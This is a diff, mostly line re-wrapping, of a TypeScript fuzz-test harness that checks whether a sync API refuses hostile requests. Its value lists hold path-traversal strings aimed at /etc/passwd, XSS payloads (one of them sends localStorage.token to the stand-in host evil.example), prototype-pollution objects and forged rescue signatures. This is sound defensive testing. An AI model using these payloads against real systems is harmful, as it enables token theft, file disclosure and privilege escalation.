@@ -226,7 +226,9 @@ function send(base: string, r: FuzzRequest, sse: boolean): Promise<Answer> {
         }
       });
       res.on('end', () => finish({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks) }));
-      res.on('error', (err) => finish({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks), failure: `response broken: ${err.message}` }));
+      res.on('error', (err) =>
+        finish({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks), failure: `response broken: ${err.message}` }),
+      );
     });
     req.on('error', (err) => finish({ status: 0, headers: {}, body: Buffer.alloc(0), failure: `connection failed: ${err.message}` }));
     if (body && r.chunked) {
@@ -306,9 +308,11 @@ function judge(c: FuzzCase, a: Answer): Verdict {
     if (c.request.method !== 'HEAD' && !isErrorBody(parsed)) return { mishandled: `status ${a.status} with body ${JSON.stringify(parsed).slice(0, 200)}` };
     if (a.status === 429 && !(Number(h['retry-after']) > 0)) return { mishandled: '429 without Retry-After' };
     if (c.check.kind === 'refuse') {
-      if (c.check.status !== undefined && a.status !== c.check.status) return { mishandled: `expected ${c.check.status}, got ${a.status}: ${JSON.stringify(parsed)}` };
+      if (c.check.status !== undefined && a.status !== c.check.status)
+        return { mishandled: `expected ${c.check.status}, got ${a.status}: ${JSON.stringify(parsed)}` };
       const code = (parsed as { error?: { code?: string } } | undefined)?.error?.code;
-      if (c.check.code !== undefined && c.request.method !== 'HEAD' && code !== c.check.code) return { mishandled: `expected code ${c.check.code}, got ${code}` };
+      if (c.check.code !== undefined && c.request.method !== 'HEAD' && code !== c.check.code)
+        return { mishandled: `expected code ${c.check.code}, got ${code}` };
     }
     return 'refused';
   }
@@ -323,7 +327,8 @@ function judge(c: FuzzCase, a: Answer): Verdict {
       return { mishandled: `status ${a.status} for an event stream` };
     case 'refuse-or-rejected': {
       const res = parsed as PushResponse;
-      if (!Array.isArray(res.results) || typeof res.serverTime !== 'number') return { mishandled: `200 without results: ${JSON.stringify(parsed).slice(0, 200)}` };
+      if (!Array.isArray(res.results) || typeof res.serverTime !== 'number')
+        return { mishandled: `200 without results: ${JSON.stringify(parsed).slice(0, 200)}` };
       const opIds = c.check.opIds;
       if (res.results.length !== opIds.length) return { mishandled: `${res.results.length} results for ${opIds.length} ops` };
       const accepted = res.results.filter((r) => r.status !== 'rejected');
@@ -334,7 +339,8 @@ function judge(c: FuzzCase, a: Answer): Verdict {
     }
     case 'hostile-push': {
       const res = parsed as PushResponse;
-      if (!Array.isArray(res.results) || res.results.length !== c.check.sent.length) return { mishandled: `bad push answer ${JSON.stringify(parsed).slice(0, 200)}` };
+      if (!Array.isArray(res.results) || res.results.length !== c.check.sent.length)
+        return { mishandled: `bad push answer ${JSON.stringify(parsed).slice(0, 200)}` };
       let stored = 0;
       res.results.forEach((r, i) => {
         const op = c.check.kind === 'hostile-push' ? c.check.sent[i]! : {};
@@ -363,7 +369,21 @@ function judge(c: FuzzCase, a: Answer): Verdict {
 // Hostile values
 // ---------------------------------------------------------------------------
 
-const TRAVERSAL = ['../', '../../etc/passwd', '%2e%2e/', '%2e%2e%2f%2e%2e%2fetc%2fpasswd', '..\\', '..\\..\\windows\\win.ini', '....//', '/etc/passwd', 'C:\\boot.ini', '..%c0%af', '%252e%252e%252f', '.', '..'];
+const TRAVERSAL = [
+  '../',
+  '../../etc/passwd',
+  '%2e%2e/',
+  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
+  '..\\',
+  '..\\..\\windows\\win.ini',
+  '....//',
+  '/etc/passwd',
+  'C:\\boot.ini',
+  '..%c0%af',
+  '%252e%252e%252f',
+  '.',
+  '..',
+];
 const SCRIPTS = [
   '<script>alert(1)</script>',
   '<img src=x onerror=alert(1)>',
@@ -375,11 +395,50 @@ const SCRIPTS = [
   '</script><script>fetch("//evil.example/"+localStorage.token)</script>',
 ];
 const PROTO_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', '__defineGetter__', 'isPrototypeOf'];
-const POLLUTER = new JObj([['__proto__', new JObj([['polluted', true], ['role', 'staff']])]]);
-const WEIRD = ['\u0000', 'a\u0000b', '\ud800', '\udfff\ud800', '\u202eevil', '\ufeff', 'null', 'undefined', 'NaN', '-1', '1e309', '0x10', 'true', '%00', '%', '\r\n', '🙂'.repeat(10), '井盖\u200b'];
+const POLLUTER = new JObj([
+  [
+    '__proto__',
+    new JObj([
+      ['polluted', true],
+      ['role', 'staff'],
+    ]),
+  ],
+]);
+const WEIRD = [
+  '\u0000',
+  'a\u0000b',
+  '\ud800',
+  '\udfff\ud800',
+  '\u202eevil',
+  '\ufeff',
+  'null',
+  'undefined',
+  'NaN',
+  '-1',
+  '1e309',
+  '0x10',
+  'true',
+  '%00',
+  '%',
+  '\r\n',
+  '🙂'.repeat(10),
+  '井盖\u200b',
+];
 
 /** Values invalid wherever a schema expects a string, a number or an object. */
-const UNIVERSAL: J[] = [true, false, [], [1, 'a'], new JObj([]), POLLUTER, new JObj([['constructor', new JObj([['prototype', new JObj([['polluted', true]])]])]]), 1e308, -1e308, new JRaw('1e400'), new JRaw('-1e400')];
+const UNIVERSAL: J[] = [
+  true,
+  false,
+  [],
+  [1, 'a'],
+  new JObj([]),
+  POLLUTER,
+  new JObj([['constructor', new JObj([['prototype', new JObj([['polluted', true]])]])]]),
+  1e308,
+  -1e308,
+  new JRaw('1e400'),
+  new JRaw('-1e400'),
+];
 
 type FieldType = 'id' | 'nid' | 'stamp' | 'version' | 'enum' | 'text2000' | 'text500' | 'text80' | 'text0' | 'ndate' | 'lat' | 'lng' | 'object';
 
@@ -434,11 +493,37 @@ function invalidFor(type: FieldType): fc.Arbitrary<J> {
         fc.string({ unit: 'binary', maxLength: 70 }).filter((s) => !ID_PATTERN.test(s)),
       );
     case 'stamp':
-      return fc.constantFrom<J>(...UNIVERSAL, null, `${goodStamp()}\n`, ` ${goodStamp()}`, goodStamp().replace(':0000:', ':000A:'), '01795881465195:0000:dev', '001795881465195:0000', '001795881465195:0000:dev/..', '', 1795881465195, '001795881465195:0000:<script>');
+      return fc.constantFrom<J>(
+        ...UNIVERSAL,
+        null,
+        `${goodStamp()}\n`,
+        ` ${goodStamp()}`,
+        goodStamp().replace(':0000:', ':000A:'),
+        '01795881465195:0000:dev',
+        '001795881465195:0000',
+        '001795881465195:0000:dev/..',
+        '',
+        1795881465195,
+        '001795881465195:0000:<script>',
+      );
     case 'version':
       return fc.constantFrom<J>(...UNIVERSAL, null, '1', 0, -1, 1.5, 1_000_001, new JRaw('1.0000001'));
     case 'enum':
-      return fc.constantFrom<J>(...UNIVERSAL, null, 'NOISE', ' noise', 'noise ', '__proto__', 'constructor', 'toString', '', '<script>alert(1)</script>', 'issue.create\u0000', 1, '../');
+      return fc.constantFrom<J>(
+        ...UNIVERSAL,
+        null,
+        'NOISE',
+        ' noise',
+        'noise ',
+        '__proto__',
+        'constructor',
+        'toString',
+        '',
+        '<script>alert(1)</script>',
+        'issue.create\u0000',
+        1,
+        '../',
+      );
     case 'text2000':
       return text(LIMITS.description, false);
     case 'text500':
@@ -458,7 +543,10 @@ function invalidFor(type: FieldType): fc.Arbitrary<J> {
   }
 }
 
-const EXTRA_KEYS = fc.oneof(fc.constantFrom(...PROTO_KEYS, 'seq', 'admin', 'isStaff', 'role_'), fc.string({ maxLength: 12 }).map((s) => `x-${s}`));
+const EXTRA_KEYS = fc.oneof(
+  fc.constantFrom(...PROTO_KEYS, 'seq', 'admin', 'isStaff', 'role_'),
+  fc.string({ maxLength: 12 }).map((s) => `x-${s}`),
+);
 const EXTRA_VALUES = fc.constantFrom<J>(POLLUTER, true, 'staff', 1, null, [], new JObj([['polluted', true]]), '<script>alert(1)</script>');
 
 /** Hostile text that is valid where a non-blank string of at most `max` is expected. */
@@ -487,12 +575,20 @@ function envelope(author: Member, entity: string, entityId: string) {
 }
 
 const TEMPLATES: Record<string, Template> = {
-  'issue.create': (a) => ({ ...envelope(a, 'issue', freshId('fz-issue')), kind: 'issue.create', payload: { category: 'noise', description: 'drilling at 6 am', severity: 'medium', pointId: 'demo-point-1' } }),
+  'issue.create': (a) => ({
+    ...envelope(a, 'issue', freshId('fz-issue')),
+    kind: 'issue.create',
+    payload: { category: 'noise', description: 'drilling at 6 am', severity: 'medium', pointId: 'demo-point-1' },
+  }),
   'issue.comment': (a) => ({ ...envelope(a, 'issue', existingIssue), kind: 'issue.comment', payload: { text: 'again today' } }),
   'issue.edit': (a) => ({ ...envelope(a, 'issue', existingIssue), kind: 'issue.edit', payload: { fields: { severity: 'high' } } }),
   'issue.transition': (a) => ({ ...envelope(a, 'issue', existingIssue), kind: 'issue.transition', payload: { to: 'disputed', reason: 'not ours' } }),
   'point.create': (a) => ({ ...envelope(a, 'point', freshId('fz-point')), kind: 'point.create', payload: { name: 'gate', lat: 29.86, lng: 121.54 } }),
-  'work.create': (a) => ({ ...envelope(a, 'work', DEMO_WORK_ID), kind: 'work.create', payload: { name: 'w', compound: 'c', community: '', kind: 'other', contractor: '', startDate: null, endDate: '2026-12-31' } }),
+  'work.create': (a) => ({
+    ...envelope(a, 'work', DEMO_WORK_ID),
+    kind: 'work.create',
+    payload: { name: 'w', compound: 'c', community: '', kind: 'other', contractor: '', startDate: null, endDate: '2026-12-31' },
+  }),
   'member.join': (a) => ({ ...envelope(a, 'member', freshId('fz-member')), kind: 'member.join', payload: { name: 'me', role: 'staff' } }),
 };
 const TEMPLATE_NAMES = Object.keys(TEMPLATES);
@@ -516,9 +612,17 @@ function mutationArb(paths: string[]): fc.Arbitrary<Mutation> {
   const objects = ['', 'payload', ...(paths.includes('payload.fields') ? ['payload.fields'] : [])];
   return fc.oneof(
     { weight: 5, arbitrary: fc.constantFrom(...settable).chain((path) => invalidFor(FIELD[path]!).map((value): Mutation => ({ t: 'set', path, value }))) },
-    { weight: 2, arbitrary: fc.constantFrom(...paths.filter((p) => FIELD[p] !== undefined)).chain((path) => invalidFor(FIELD[path]!).map((value): Mutation => ({ t: 'dup', path, value }))) },
+    {
+      weight: 2,
+      arbitrary: fc
+        .constantFrom(...paths.filter((p) => FIELD[p] !== undefined))
+        .chain((path) => invalidFor(FIELD[path]!).map((value): Mutation => ({ t: 'dup', path, value }))),
+    },
     { weight: 2, arbitrary: fc.constantFrom(...paths).map((path): Mutation => ({ t: 'delete', path })) },
-    { weight: 3, arbitrary: fc.tuple(fc.constantFrom(...objects), EXTRA_KEYS, EXTRA_VALUES).map(([at, key, value]): Mutation => ({ t: 'extra', at, key, value })) },
+    {
+      weight: 3,
+      arbitrary: fc.tuple(fc.constantFrom(...objects), EXTRA_KEYS, EXTRA_VALUES).map(([at, key, value]): Mutation => ({ t: 'extra', at, key, value })),
+    },
   );
 }
 
@@ -562,7 +666,9 @@ function brokenOpsArb(author: () => Member): fc.Arbitrary<{ ops: J[]; ids: strin
       ids.push(String(plain.id));
       return op;
     });
-    const label = plans.map(({ name, muts }) => `${name}{${muts.map((m) => (m.t === 'extra' ? `+${m.at}.${m.key}` : `${m.t} ${m.path}`)).join(', ')}}`).join(' ');
+    const label = plans
+      .map(({ name, muts }) => `${name}{${muts.map((m) => (m.t === 'extra' ? `+${m.at}.${m.key}` : `${m.t} ${m.path}`)).join(', ')}}`)
+      .join(' ');
     return { ops, ids, label: `${group ? 'group ' : ''}${label}` };
   });
 }
@@ -575,7 +681,12 @@ const JSON_CT = { 'Content-Type': 'application/json' };
 const bearer = (m: { token: string }) => ({ Authorization: `Bearer ${m.token}` });
 
 function opsBody(ops: J[], clientVersion: J = RULES_VERSION): string {
-  return enc(new JObj([['clientVersion', clientVersion], ['ops', ops]]));
+  return enc(
+    new JObj([
+      ['clientVersion', clientVersion],
+      ['ops', ops],
+    ]),
+  );
 }
 
 /** Authorization headers that must all be refused with 401. */
@@ -638,7 +749,13 @@ const validIssueOp = () => TEMPLATES['issue.create']!(members.volunteer);
 
 function pushLike(path: string, author: () => Member, token: () => Member): () => fc.Arbitrary<FuzzCase> {
   const ep = `POST ${path}`;
-  const req = (body: string | Buffer, headers: Record<string, string | string[]> = JSON_CT, chunked = false): FuzzRequest => ({ method: 'POST', path, headers: { ...bearer(token()), ...headers }, body, chunked });
+  const req = (body: string | Buffer, headers: Record<string, string | string[]> = JSON_CT, chunked = false): FuzzRequest => ({
+    method: 'POST',
+    path,
+    headers: { ...bearer(token()), ...headers },
+    body,
+    chunked,
+  });
   return () =>
     fc.oneof(
       // Valid envelope, broken ops: 200 with every op rejected (or a 4xx).
@@ -654,14 +771,70 @@ function pushLike(path: string, author: () => Member, token: () => Member): () =
         weight: 4,
         arbitrary: fc
           .oneof(
-            fc.constantFrom<J>('1', 0, -1, 1.5, null, [], true, new JRaw('1e400'), new JRaw('-0'), 'NaN', new JObj([])).map((cv) => ({ label: `clientVersion ${enc(cv)}`, body: () => opsBody([toJ(validIssueOp())], cv) })),
-            fc.constantFrom<J>(null, new JObj([]), '[]', 0, [], new JObj([['0', 1]]), POLLUTER).map((ops) => ({ label: `ops ${enc(ops).slice(0, 40)}`, body: () => enc(new JObj([['clientVersion', 1], ['ops', ops]])) })),
-            fc.tuple(EXTRA_KEYS, EXTRA_VALUES).map(([k, val]) => ({ label: `extra top-level key ${k}`, body: () => enc(new JObj([['clientVersion', 1], [k, val], ['ops', [toJ(validIssueOp())]]])) })),
-            fc.constantFrom<J>(null, 1, 'op', [], new JObj([]), new JObj([['id', '../x']]), new JObj([['id', 7]]), new JObj([['__proto__', new JObj([['id', 'proto-id']])]])).map((op) => ({ label: `unanswerable op ${enc(op).slice(0, 40)}`, body: () => enc(new JObj([['clientVersion', 1], ['ops', [toJ(validIssueOp()), op]]])) })),
+            fc
+              .constantFrom<J>('1', 0, -1, 1.5, null, [], true, new JRaw('1e400'), new JRaw('-0'), 'NaN', new JObj([]))
+              .map((cv) => ({ label: `clientVersion ${enc(cv)}`, body: () => opsBody([toJ(validIssueOp())], cv) })),
+            fc.constantFrom<J>(null, new JObj([]), '[]', 0, [], new JObj([['0', 1]]), POLLUTER).map((ops) => ({
+              label: `ops ${enc(ops).slice(0, 40)}`,
+              body: () =>
+                enc(
+                  new JObj([
+                    ['clientVersion', 1],
+                    ['ops', ops],
+                  ]),
+                ),
+            })),
+            fc.tuple(EXTRA_KEYS, EXTRA_VALUES).map(([k, val]) => ({
+              label: `extra top-level key ${k}`,
+              body: () =>
+                enc(
+                  new JObj([
+                    ['clientVersion', 1],
+                    [k, val],
+                    ['ops', [toJ(validIssueOp())]],
+                  ]),
+                ),
+            })),
+            fc
+              .constantFrom<J>(
+                null,
+                1,
+                'op',
+                [],
+                new JObj([]),
+                new JObj([['id', '../x']]),
+                new JObj([['id', 7]]),
+                new JObj([['__proto__', new JObj([['id', 'proto-id']])]]),
+              )
+              .map((op) => ({
+                label: `unanswerable op ${enc(op).slice(0, 40)}`,
+                body: () =>
+                  enc(
+                    new JObj([
+                      ['clientVersion', 1],
+                      ['ops', [toJ(validIssueOp()), op]],
+                    ]),
+                  ),
+              })),
             fc.jsonValue({ maxDepth: 3 }).map((jv) => ({ label: 'random JSON', body: () => JSON.stringify(jv) })),
             fc.string({ maxLength: 300 }).map((s) => ({ label: 'random text', body: () => s })),
-            fc.constantFrom('\ufeff{"clientVersion":1,"ops":[]}', '{"clientVersion":1,"ops":[],}', "{'clientVersion':1}", '{"clientVersion":NaN}', '{"clientVersion":1 /* c */}', '{"clientVersion":1,"ops":[{"id":"a\u0000b"}]}', '', ' ', 'null', '{"clientVersion":1,"ops":[').map((s) => ({ label: `not JSON ${JSON.stringify(s).slice(0, 30)}`, body: () => s })),
-            fc.integer({ min: LIMITS.opsPerPush + 1, max: LIMITS.opsPerPush + 20 }).map((n) => ({ label: `${n} ops`, body: () => opsBody(Array.from({ length: n }, () => toJ(validIssueOp()))) })),
+            fc
+              .constantFrom(
+                '\ufeff{"clientVersion":1,"ops":[]}',
+                '{"clientVersion":1,"ops":[],}',
+                "{'clientVersion':1}",
+                '{"clientVersion":NaN}',
+                '{"clientVersion":1 /* c */}',
+                '{"clientVersion":1,"ops":[{"id":"a\u0000b"}]}',
+                '',
+                ' ',
+                'null',
+                '{"clientVersion":1,"ops":[',
+              )
+              .map((s) => ({ label: `not JSON ${JSON.stringify(s).slice(0, 30)}`, body: () => s })),
+            fc
+              .integer({ min: LIMITS.opsPerPush + 1, max: LIMITS.opsPerPush + 20 })
+              .map((n) => ({ label: `${n} ops`, body: () => opsBody(Array.from({ length: n }, () => toJ(validIssueOp()))) })),
           )
           .map(({ label, body }): FuzzCase => ({ endpoint: ep, label, request: req(body()), check: { kind: 'refuse', status: undefined } })),
       },
@@ -686,13 +859,23 @@ function pushLike(path: string, author: () => Member, token: () => Member): () =
           .map((headers): FuzzCase => {
             const op = validIssueOp();
             mustNotBeStored.add(String(op.id));
-            return { endpoint: ep, label: `Content-Type ${JSON.stringify(headers['Content-Type'] ?? null)}`, request: req(opsBody([toJ(op)]), headers), check: { kind: 'refuse', status: 415 } };
+            return {
+              endpoint: ep,
+              label: `Content-Type ${JSON.stringify(headers['Content-Type'] ?? null)}`,
+              request: req(opsBody([toJ(op)]), headers),
+              check: { kind: 'refuse', status: 415 },
+            };
           }),
       },
     );
 }
 
-function hostilePushArb(path: string, author: () => Member, token: () => Member, templates: Array<'issue.create' | 'issue.comment' | 'point.create'>): fc.Arbitrary<FuzzCase> {
+function hostilePushArb(
+  path: string,
+  author: () => Member,
+  token: () => Member,
+  templates: Array<'issue.create' | 'issue.comment' | 'point.create'>,
+): fc.Arbitrary<FuzzCase> {
   return fc.tuple(fc.constantFrom(...templates), hostileText(LIMITS.description), hostileText(LIMITS.name)).map(([name, long, short]): FuzzCase => {
     const op = TEMPLATES[name]!(author());
     const payload = op.payload as Record<string, unknown>;
@@ -710,7 +893,32 @@ function hostilePushArb(path: string, author: () => Member, token: () => Member,
 }
 
 function queryArb(): fc.Arbitrary<{ query: string; label: string }> {
-  const badAfter = ['-1', '-0', '+1', '1.0', '1e3', '0x10', 'NaN', 'Infinity', '', ' 1', '1 ', '١', '99999999999999999', '9007199254740992', '00000000000000001', '<script>', '../', '\u0000', '1,2', '[1]', '1e308', `${'9'.repeat(400)}`, 'null', 'true'];
+  const badAfter = [
+    '-1',
+    '-0',
+    '+1',
+    '1.0',
+    '1e3',
+    '0x10',
+    'NaN',
+    'Infinity',
+    '',
+    ' 1',
+    '1 ',
+    '١',
+    '99999999999999999',
+    '9007199254740992',
+    '00000000000000001',
+    '<script>',
+    '../',
+    '\u0000',
+    '1,2',
+    '[1]',
+    '1e308',
+    `${'9'.repeat(400)}`,
+    'null',
+    'true',
+  ];
   const badLimit = ['0', '1001', '-1', '1.5', '', 'ten', '1e2', '99999999999999999', 'NaN', '-0', '0x3e8', '\u0000', '100000'];
   const badAfterId = ['', '../x', '%2e%2e%2f', '..\\', 'a'.repeat(65), '<script>', 'a b', '\u0000', 'é', '/etc/passwd'];
   const enc1 = (s: string) => encodeURIComponent(s);
@@ -718,7 +926,10 @@ function queryArb(): fc.Arbitrary<{ query: string; label: string }> {
     fc.oneof(
       fc.constantFrom(...bad).map((v) => ({ bad: true, text: `${name}=${enc1(v)}` })),
       fc.constantFrom(...good).map((v) => ({ bad: false, text: v === '' ? '' : `${name}=${v}` })),
-      fc.string({ maxLength: 20 }).filter((s) => !/^\d{1,16}$/.test(s) && (name !== 'afterId' || !ID_PATTERN.test(s))).map((v) => ({ bad: true, text: `${name}=${enc1(v)}` })),
+      fc
+        .string({ maxLength: 20 })
+        .filter((s) => !/^\d{1,16}$/.test(s) && (name !== 'afterId' || !ID_PATTERN.test(s)))
+        .map((v) => ({ bad: true, text: `${name}=${enc1(v)}` })),
     );
   return fc
     .tuple(
@@ -752,7 +963,10 @@ function asKept(x: unknown): unknown {
 function canon(x: unknown): string {
   if (x === null || typeof x !== 'object') return JSON.stringify(x);
   if (Array.isArray(x)) return `[${x.map(canon).join(',')}]`;
-  return `{${Object.keys(x).sort().map((k) => `${JSON.stringify(k)}:${canon((x as Record<string, unknown>)[k])}`).join(',')}}`;
+  return `{${Object.keys(x)
+    .sort()
+    .map((k) => `${JSON.stringify(k)}:${canon((x as Record<string, unknown>)[k])}`)
+    .join(',')}}`;
 }
 
 /** The endpoints under fuzz. Append an entry to fuzz a new endpoint. */
@@ -770,44 +984,79 @@ const ENDPOINTS: Endpoint[] = [
           weight: 8,
           arbitrary: fc
             .record({
-              code: fc.oneof(fc.constantFrom<J>(...UNIVERSAL, null, '', 'ZZZZ-ZZZZ', 'A'.repeat(33), ...TRAVERSAL, ...SCRIPTS, '\u0000', 'knw3\u0000sqmx'), fc.string({ maxLength: 40 })),
+              code: fc.oneof(
+                fc.constantFrom<J>(...UNIVERSAL, null, '', 'ZZZZ-ZZZZ', 'A'.repeat(33), ...TRAVERSAL, ...SCRIPTS, '\u0000', 'knw3\u0000sqmx'),
+                fc.string({ maxLength: 40 }),
+              ),
               name: fc.oneof(fc.constantFrom<J>(...UNIVERSAL, null, '', '   ', 'x'.repeat(81), ...SCRIPTS), hostileText(LIMITS.name)),
               deviceId: fc.oneof(invalidFor('id'), fc.constantFrom<J>('dev-fuzz')),
               extra: fc.option(fc.tuple(EXTRA_KEYS, EXTRA_VALUES), { nil: undefined }),
               codeFirst: fc.boolean(),
             })
             .map(({ code, name, deviceId, extra, codeFirst }): FuzzCase => {
-              const entries: Array<[string, J]> = [['name', name], ['deviceId', deviceId]];
+              const entries: Array<[string, J]> = [
+                ['name', name],
+                ['deviceId', deviceId],
+              ];
               if (codeFirst) entries.unshift(['code', code]);
               else entries.push(['code', code]);
               if (extra) entries.splice(1, 0, extra);
-              return { endpoint: 'POST /api/join', label: 'hostile join body', request: { method: 'POST', path: '/api/join', headers: JSON_CT, body: enc(new JObj(entries)) }, check: { kind: 'refuse' } };
+              return {
+                endpoint: 'POST /api/join',
+                label: 'hostile join body',
+                request: { method: 'POST', path: '/api/join', headers: JSON_CT, body: enc(new JObj(entries)) },
+                check: { kind: 'refuse' },
+              };
             }),
         },
         {
           weight: 3,
-          arbitrary: fc.oneof(fc.jsonValue({ maxDepth: 3 }).map((v) => JSON.stringify(v)), fc.string({ maxLength: 200 })).map((body): FuzzCase => ({ endpoint: 'POST /api/join', label: 'random body', request: { method: 'POST', path: '/api/join', headers: JSON_CT, body }, check: { kind: 'refuse' } })),
+          arbitrary: fc
+            .oneof(
+              fc.jsonValue({ maxDepth: 3 }).map((v) => JSON.stringify(v)),
+              fc.string({ maxLength: 200 }),
+            )
+            .map((body): FuzzCase => ({
+              endpoint: 'POST /api/join',
+              label: 'random body',
+              request: { method: 'POST', path: '/api/join', headers: JSON_CT, body },
+              check: { kind: 'refuse' },
+            })),
         },
         {
           weight: 2,
           arbitrary: fc.constantFrom('text/plain', 'multipart/form-data; boundary=x', 'application/x-www-form-urlencoded', '').map((ct): FuzzCase => ({
             endpoint: 'POST /api/join',
             label: `join as ${ct || 'no type'}`,
-            request: { method: 'POST', path: '/api/join', headers: ct ? { 'Content-Type': ct } : {}, body: ct.startsWith('application/x-www') ? `code=${codes.staff}&name=x&deviceId=d` : JSON.stringify({ code: codes.staff, name: 'x', deviceId: 'd' }) },
+            request: {
+              method: 'POST',
+              path: '/api/join',
+              headers: ct ? { 'Content-Type': ct } : {},
+              body: ct.startsWith('application/x-www')
+                ? `code=${codes.staff}&name=x&deviceId=d`
+                : JSON.stringify({ code: codes.staff, name: 'x', deviceId: 'd' }),
+            },
             check: { kind: 'refuse', status: 415 },
           })),
         },
         {
           weight: 2,
-          arbitrary: fc.tuple(fc.constantFrom<Role>('volunteer', 'liaison', 'staff'), hostileText(LIMITS.name), fc.constantFrom('', '  ', '\u3000')).map(([role, name, pad]): FuzzCase => {
-            const padded = `${pad}${name}${pad}`.slice(0, LIMITS.name);
-            return {
-              endpoint: 'POST /api/join',
-              label: 'valid join with a hostile name',
-              request: { method: 'POST', path: '/api/join', headers: JSON_CT, body: JSON.stringify({ code: codes[role], name: padded, deviceId: 'dev-fuzz' }) },
-              check: { kind: 'hostile-join', name: padded, role },
-            };
-          }),
+          arbitrary: fc
+            .tuple(fc.constantFrom<Role>('volunteer', 'liaison', 'staff'), hostileText(LIMITS.name), fc.constantFrom('', '  ', '\u3000'))
+            .map(([role, name, pad]): FuzzCase => {
+              const padded = `${pad}${name}${pad}`.slice(0, LIMITS.name);
+              return {
+                endpoint: 'POST /api/join',
+                label: 'valid join with a hostile name',
+                request: {
+                  method: 'POST',
+                  path: '/api/join',
+                  headers: JSON_CT,
+                  body: JSON.stringify({ code: codes[role], name: padded, deviceId: 'dev-fuzz' }),
+                },
+                check: { kind: 'hostile-join', name: padded, role },
+              };
+            }),
         },
       ),
   },
@@ -824,9 +1073,32 @@ const ENDPOINTS: Endpoint[] = [
     },
     hostile: () =>
       fc.oneof(
-        { weight: 9, arbitrary: pushLike('/api/sync/push', () => members.volunteer, () => members.volunteer)() },
-        { weight: 1, arbitrary: hostilePushArb('/api/sync/push', () => members.volunteer, () => members.volunteer, ['issue.create', 'issue.comment']) },
-        { weight: 1, arbitrary: hostilePushArb('/api/sync/push', () => members.staff, () => members.staff, ['point.create']) },
+        {
+          weight: 9,
+          arbitrary: pushLike(
+            '/api/sync/push',
+            () => members.volunteer,
+            () => members.volunteer,
+          )(),
+        },
+        {
+          weight: 1,
+          arbitrary: hostilePushArb(
+            '/api/sync/push',
+            () => members.volunteer,
+            () => members.volunteer,
+            ['issue.create', 'issue.comment'],
+          ),
+        },
+        {
+          weight: 1,
+          arbitrary: hostilePushArb(
+            '/api/sync/push',
+            () => members.staff,
+            () => members.staff,
+            ['point.create'],
+          ),
+        },
       ),
   },
   {
@@ -842,29 +1114,58 @@ const ENDPOINTS: Endpoint[] = [
     },
     hostile: () =>
       fc.oneof(
-        { weight: 8, arbitrary: pushLike('/api/sync/rescue', () => members.volunteer, () => members.staff)() },
+        {
+          weight: 8,
+          arbitrary: pushLike(
+            '/api/sync/rescue',
+            () => members.volunteer,
+            () => members.staff,
+          )(),
+        },
         {
           weight: 2,
           arbitrary: fc.constantFrom<'volunteer' | 'liaison'>('volunteer', 'liaison').map((role): FuzzCase => {
             const op = validIssueOp();
             mustNotBeStored.add(String(op.id));
-            return { endpoint: 'POST /api/sync/rescue', label: `rescue by a ${role}`, request: { method: 'POST', path: '/api/sync/rescue', headers: { ...JSON_CT, ...bearer(members[role]) }, body: opsBody([toJ(op)]) }, check: { kind: 'refuse', status: 403, code: 'forbidden' } };
+            return {
+              endpoint: 'POST /api/sync/rescue',
+              label: `rescue by a ${role}`,
+              request: { method: 'POST', path: '/api/sync/rescue', headers: { ...JSON_CT, ...bearer(members[role]) }, body: opsBody([toJ(op)]) },
+              check: { kind: 'refuse', status: 403, code: 'forbidden' },
+            };
           }),
         },
-        { weight: 1, arbitrary: hostilePushArb('/api/sync/rescue', () => members.volunteer, () => members.staff, ['issue.create', 'issue.comment']) },
+        {
+          weight: 1,
+          arbitrary: hostilePushArb(
+            '/api/sync/rescue',
+            () => members.volunteer,
+            () => members.staff,
+            ['issue.create', 'issue.comment'],
+          ),
+        },
         // Point 4: a volunteer's file passing off another member's actions, signed with the volunteer's own token.
         {
           weight: 2,
-          arbitrary: fc.tuple(fc.constantFrom<'liaison' | 'staff' | 'revoked'>('liaison', 'staff', 'revoked'), fc.boolean()).map(([victim, claimVictim]): FuzzCase => {
-            const op = TEMPLATES['issue.create']!(members[victim]);
-            mustNotBeStored.add(String(op.id));
-            const claim = claimVictim ? members[victim] : members.volunteer;
-            const key = createHash('sha256').update(members.volunteer.token).digest();
-            const mac = createHmac('sha256', key).update(rescueMacMessage(claim.id, 'dev-fuzz', op)).digest('hex');
-            const body = JSON.stringify({ clientVersion: RULES_VERSION, member: claim.id, device: 'dev-fuzz', ops: [op], macs: [mac] });
-            const code = claimVictim ? 'rescue_unproven' : 'rescue_wrong_author';
-            return { endpoint: 'POST /api/sync/rescue', label: `forged rescue: ${victim}'s op, ${code}`, request: { method: 'POST', path: '/api/sync/rescue', headers: { ...JSON_CT, ...bearer(members.staff) }, body }, check: { kind: 'refuse', status: 422, code } };
-          }),
+          arbitrary: fc
+            .tuple(fc.constantFrom<'liaison' | 'staff' | 'revoked'>('liaison', 'staff', 'revoked'), fc.boolean())
+            .map(([victim, claimVictim]): FuzzCase => {
+              const op = TEMPLATES['issue.create']!(members[victim]);
+              mustNotBeStored.add(String(op.id));
+              const claim = claimVictim ? members[victim] : members.volunteer;
+              const key = createHash('sha256').update(members.volunteer.token).digest();
+              const mac = createHmac('sha256', key)
+                .update(rescueMacMessage(claim.id, 'dev-fuzz', op))
+                .digest('hex');
+              const body = JSON.stringify({ clientVersion: RULES_VERSION, member: claim.id, device: 'dev-fuzz', ops: [op], macs: [mac] });
+              const code = claimVictim ? 'rescue_unproven' : 'rescue_wrong_author';
+              return {
+                endpoint: 'POST /api/sync/rescue',
+                label: `forged rescue: ${victim}'s op, ${code}`,
+                request: { method: 'POST', path: '/api/sync/rescue', headers: { ...JSON_CT, ...bearer(members.staff) }, body },
+                check: { kind: 'refuse', status: 422, code },
+              };
+            }),
         },
       ),
   },
@@ -877,8 +1178,24 @@ const ENDPOINTS: Endpoint[] = [
     valid: () => ({ method: 'GET', path: '/api/sync/pull?after=0', headers: {} }),
     hostile: () =>
       fc.oneof(
-        { weight: 6, arbitrary: queryArb().map(({ query, label }): FuzzCase => ({ endpoint: 'GET /api/sync/pull', label, request: { method: 'GET', path: `/api/sync/pull?${query}`, headers: bearer(members.volunteer) }, check: { kind: 'refuse' } })) },
